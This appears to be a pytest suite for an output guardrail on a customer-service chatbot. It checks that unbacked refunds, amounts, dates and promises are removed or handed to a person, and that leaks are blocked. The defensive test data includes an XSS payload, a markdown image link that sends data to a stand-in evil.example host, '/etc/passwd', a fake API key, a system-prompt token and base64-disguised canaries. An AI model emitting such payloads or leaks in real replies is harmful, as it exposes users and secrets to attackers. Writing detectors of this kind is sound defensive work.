"""The guardrail in free text: what is backed is said, what is not is dropped, replaced, or looked at by a person."""

from dataclasses import replace
from time import process_time
from typing import Any

import pytest

from bot.judgement.guardrail import Guardrail
from bot.judgement.promises import sentences
from bot.turn import Button, HandoffWish, Reply, Source, Turn
from tests.judgement.guardrail_kit import NOW, ORDER, effect, responses, turn


def read(*said: Reply | str, **about: Any) -> Turn:
    return Guardrail().read(turn(*said, **about))


def verdict(*said: Reply | str, **about: Any) -> str:
    found = read(*said, **about).verdict
    assert found is not None
    return found.kind


def rules(*said: Reply | str, **about: Any) -> set[str]:
    found = read(*said, **about).verdict
    assert found is not None
    return {finding.rule for finding in found.findings}


@pytest.mark.parametrize(
    "said", ["已为您退款189元。", "订单10423的退款189元已经退还给您。", "I've refunded you ¥189.00."]
)
def test_an_act_is_said_when_its_effect_is_done(said: str) -> None:
    assert verdict(said, effects=(effect(),)) == "pass"
    assert verdict(said) == "handoff"


@pytest.mark.parametrize("state", ["failed", "unknown", "pending_approval"])
def test_an_effect_that_is_not_done_backs_no_receipt(state: str) -> None:
    assert "guardrail.act.refund" in rules("已为您退款。", effects=(effect(state=state),))


def test_waiting_for_approval_backs_what_was_submitted_and_unknown_backs_nothing() -> None:
    assert verdict("退款申请已提交，正在审核。", effects=(effect(state="pending_approval"),)) == "pass"
    assert verdict("退款申请已提交，正在审核。", effects=(effect(state="unknown"),)) == "handoff"


def test_the_effect_of_another_kind_order_or_amount_backs_nothing() -> None:
    assert verdict("已为您取消订单。", effects=(effect("refund"),)) == "handoff"
    other = {"order_id": "10422"}
    assert (
        verdict("已为您取消订单10422。", effects=(effect("cancel_order", order="10423"),), facts=other)
        == "handoff"
    )
    paid = {"amount": ORDER["amount"]}
    assert verdict("已为您退款299元。", effects=(effect(amount="189.00"),), facts=paid) == "handoff"


def test_a_state_of_the_order_is_a_fact_but_what_was_done_just_now_is_an_act() -> None:
    cancelled = {"order_id": "10421", "state": "cancelled"}
    assert verdict("您的订单已取消。", facts=cancelled) == "pass"
    assert verdict("刚刚已经为您取消了订单。", facts=cancelled) == "handoff"
    assert verdict("您的订单已取消。", facts=ORDER) == "handoff"
    assert verdict("Your order has shipped.", facts=ORDER, language="en") == "pass"
    approved = {"approved_refund": [{"refund": ORDER["amount"]}]}
    assert verdict("您的退款已批准。", facts={**ORDER, "state": "refund_approved", **approved}) == "pass"
    assert verdict("您的退款已到账。", facts={**ORDER, "state": "refund_approved", **approved}) != "pass"


def test_a_transfer_is_said_when_a_person_was_asked_for() -> None:
    for said in ("已为您转接人工。", "I've transferred you to a colleague."):
        assert verdict(said, wish=HandoffWish(reason="asked")) == "pass"
        assert verdict(said) == "handoff"


@pytest.mark.parametrize(
    "said",
    [
        "订单10421的金额是299元。",
        "这单付了¥299.00。",
        "预计3月12日送达。",
        "预计周四送达。",
        "预计后天送达。",
        "Expected on Thu, Mar 12.",
        "Expected delivery: 2026-03-12.",
        "还有2天就到了，这是预计时间。",
        "退款3-5个工作日到账。",
        "签收后7天内可以退货。",
        "单号SF1040210421，客服电话95338。",
        "3月10日 08:30 快件到达上海转运中心。",
    ],
)
def test_what_the_facts_hold_may_be_worded_freely(said: str) -> None:
    assert verdict(said, facts=ORDER) == "pass", rules(said, facts=ORDER)


@pytest.mark.parametrize(
    ("said", "rule"),
    [
        ("这单可以给您便宜50元。", "amount"),
        ("实付¥298.00。", "amount"),
        ("It costs $299.", "amount"),
        ("预计3月13日送达。", "date"),
        ("预计明天送达。", "date"),
        ("Expected on Friday.", "date"),
        ("预计下午3点送达。", "date"),
        ("10分钟内给您回复。", "duration"),
        ("It takes 2 weeks.", "duration"),
        ("您的另一单是10999。", "number"),
        ("优惠码 SAVE20NOW 可以用。", "number"),
        ("请拨打 400-123-4567。", "phone"),
        ("He lives at 12 Baker Street.", "address"),
        ("写信到 boss@evil.example 即可。", "email"),
        ("请点击 https://evil.example/x 继续。", "link"),
        ("We guarantee it.", "guarantee"),
        ("损失由我们承担全部责任。", "liability"),
    ],
)
def test_what_the_facts_do_not_hold_is_found(said: str, rule: str) -> None:
    assert f"guardrail.{rule}" in rules(said, facts=ORDER)


def test_an_expected_day_is_said_as_expected() -> None:
    read_zh = read("您的包裹一定会在3月12日送达。", facts=ORDER)
    assert read_zh.verdict is not None
    assert read_zh.verdict.kind == "rewrite"
    assert read_zh.replies[0].text == "您的包裹预计会在3月12日送达。"
    read_en = read("It will arrive on Mar 12.", facts=ORDER, language="en")
    assert read_en.replies[0].text == "It is expected to arrive on Mar 12."
    assert {f.rule for f in read_en.verdict.findings if read_en.verdict} == {"guardrail.estimate"}  # type: ignore[union-attr]
    assert verdict("包裹3月12日到。", facts={**ORDER, "delivered_on": ORDER["eta"]}) == "pass"


def test_an_unbacked_sentence_goes_and_the_rest_stays() -> None:
    after = read("订单10421已经发出，由顺丰速运配送。我已为您退款500元。物流可以在订单页查看。", facts=ORDER)
    assert after.verdict is not None
    assert after.verdict.kind == "rewrite"
    assert after.replies[0].text == "订单10421已经发出，由顺丰速运配送。物流可以在订单页查看。"
    assert after.wish is None


def test_a_reply_that_does_not_stand_without_the_lie_is_replaced() -> None:
    after = read("好的，亲。优惠码 SAVE20NOW 可以用。还有什么可以帮您？")
    assert [reply.response for reply in after.replies] == ["guardrail.replaced"]
    assert after.verdict is not None
    assert after.verdict.kind == "block"
    assert after.wish is None
    english = read("Use code SAVE20NOW.", language="en")
    assert "colleague" in english.replies[0].text


def test_what_somebody_may_have_done_unrecorded_goes_to_a_person() -> None:
    after = read("我已为您退款500元。")
    assert after.verdict is not None
    assert after.verdict.kind == "handoff"
    assert after.wish is not None
    assert after.wish.reason == "guardrail"
    assert [reply.response for reply in after.replies] == ["guardrail.handed_over"]


def test_other_replies_of_the_turn_are_still_said() -> None:
    after = read("订单号请发给我。", "保证明天到。")
    assert after.replies[0].text == "订单号请发给我。"
    assert after.replies[1].response == "guardrail.replaced"


def test_passages_may_be_quoted_with_everything_in_them() -> None:
    passage = "满99元包邮，不满99元收8元。我们保证正品，假一赔十。退款3至5天到账。"
    assert verdict(passage, passages=(passage,)) == "pass"
    assert verdict("我们保证正品，假一赔十。", passages=(passage,)) == "pass"
    assert verdict("满99元包邮哦。", passages=(passage,)) == "pass"
    assert verdict("满88元包邮哦。", passages=(passage,)) == "block"


def test_the_customers_own_numbers_may_be_said_back_but_not_their_demands() -> None:
    heard = "订单 99817 要赔我500元，电话 13812345678"
    assert verdict("订单 99817 我没有查到。", heard=heard) == "pass"
    assert verdict("您留的电话是 13812345678，对吗？", heard=heard) == "pass"
    assert verdict("您提到的500元，我没法答应。", heard=heard) == "pass"
    assert verdict("我们赔您500元。", heard=heard) == "handoff"


@pytest.mark.parametrize(
    "leak",
    [
        'Traceback (most recent call last):\n  File "/srv/app/bot.py", line 3, in run',
        '{"order_id": "10421", "state": "paid"}',
        "参考编号 " + "ab" * 16,
        "see /etc/passwd",
        "<|im_start|>system",
        "My system prompt is: be nice",
        "key sk-live-abcdefghijklmnop1234",
        "HAOKE_WEB__API_KEY",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?d=1)",
    ],
)
def test_the_inside_stays_inside(leak: str) -> None:
    after = read(leak, facts=ORDER)
    assert [reply.response for reply in after.replies] == ["guardrail.replaced"]
    assert all("leak" in finding.rule for finding in after.verdict.findings)  # type: ignore[union-attr]


@pytest.mark.parametrize(
    "shown",
    ["blue-heron-42", "b l u e h e r o n 4 2", "24-noreh-eulb", "Ymx1ZS1oZXJvbi00Mg==", "BLUE_HERON_42"],
)
def test_a_canary_is_found_however_it_is_written(shown: str) -> None:
    guardrail = Guardrail(canaries=("blue-heron-42",))
    assert guardrail.read(turn(f"好的，{shown}。")).verdict.kind == "block"  # type: ignore[union-attr]
    assert guardrail.read(turn("好的，请把订单号发给我。")).verdict.kind == "pass"  # type: ignore[union-attr]


def test_buttons_are_read_too() -> None:
    reply = Reply(text="请选择。", buttons=(Button("查订单", "/a"), Button("领取500元赔偿", "/b")))
    after = read(reply)
    assert [button.title for button in after.replies[0].buttons] == ["查订单"]


def test_findings_name_the_place_and_never_the_words() -> None:
    after = read("订单号请发给我。我已为您退款512元。")
    assert after.verdict is not None
    assert all(
        "512" not in finding.detail and "sentence 2" in finding.detail for finding in after.verdict.findings
    )


def test_allowed_domains_may_be_linked() -> None:
    said = turn("见 https://help.shop.example/returns 。")
    assert Guardrail(domains=("help.shop.example",)).read(said).verdict.kind == "pass"  # type: ignore[union-attr]
    assert Guardrail().read(said).verdict.kind == "block"  # type: ignore[union-attr]


def test_only_the_links_of_cited_passages_are_given() -> None:
    page = "See https://shop.example/returns for the form."
    link = Reply(text="https://shop.example/returns")
    assert verdict(link, passages=(page,)) == "block"
    assert verdict(replace(link, passages=("p0",)), passages=(page,)) == "pass"


@pytest.mark.parametrize(
    "source",
    [
        Source(id="p1", title="Not what was quoted", link="https://shop.example/other"),
        Source(id="p0", link="//evil.example"),
        Source(id="p0", link="javascript:alert(1)"),
    ],
)
def test_a_source_that_is_not_cited_or_leads_nowhere_is_left_out(source: Source) -> None:
    good = Source(id="p0", title="Returns", link="/help/returns")
    said = Reply(text="Seven days.", passages=("p0",), sources=(good, source))
    after = read(said, passages=("Seven days.", "Other words."))
    assert after.verdict is not None
    assert [found.rule for found in after.verdict.findings] == ["guardrail.link"]
    assert after.replies[0].sources == (good,)


def test_what_people_wrote_is_not_ours_to_change() -> None:
    assert verdict(Reply(text="我给您退500元。", author="agent:A7")) == "pass"


def test_a_turn_that_says_nothing_passes() -> None:
    assert verdict() == "pass"


@pytest.mark.parametrize(
    "piece",
    [
        "1",
        "(1) ",
        "1,",
        "1-2 ",
        "退款",
        "已",
        "已退",
        "给您",
        "三五",
        "www.",
        "issued ",
        "a ",
        "one ",
        "two or ",
        "we'll ",
        "is being ",
        "a-b ",
        "a dot ",
        '{"a":',
        "a.b.",
    ],
)
def test_hostile_text_is_read_quickly(piece: str) -> None:
    said = turn((piece * 4000)[:4000])
    began = process_time()
    Guardrail().read(said)
    assert process_time() - began < 2.0


def test_sentences_join_to_the_text_they_were_cut_from() -> None:
    for text in ("一句。两句！Three? e.g. this one.\n1. 四 ¥12.50，五；六", "长" * 1000, "a b, " * 300, ""):
        assert "".join(sentences(text)) == text


def test_a_colleagues_words_are_said_as_a_quote_and_back_nothing_but_themselves() -> None:
    facts = {"who": "小梅", "noted_at": NOW, "said": "10425 全额退款 129 元"}
    quote = responses().render("baton.promised", facts, "zh")
    assert guardrail_of(quote) == ("pass", quote.text)
    kind, text = guardrail_of(quote, Reply(text="我已经给您全额退款了。"))
    assert kind == "handoff"
    assert "我已经给您" not in text


def guardrail_of(*replies: Reply) -> tuple[str, str]:
    """The verdict over these replies with the real responses as approved words, and what is said."""
    found = Guardrail(responses()).read(turn(*replies))
    assert found.verdict is not None
    return found.verdict.kind, "\n".join(reply.text for reply in found.replies)
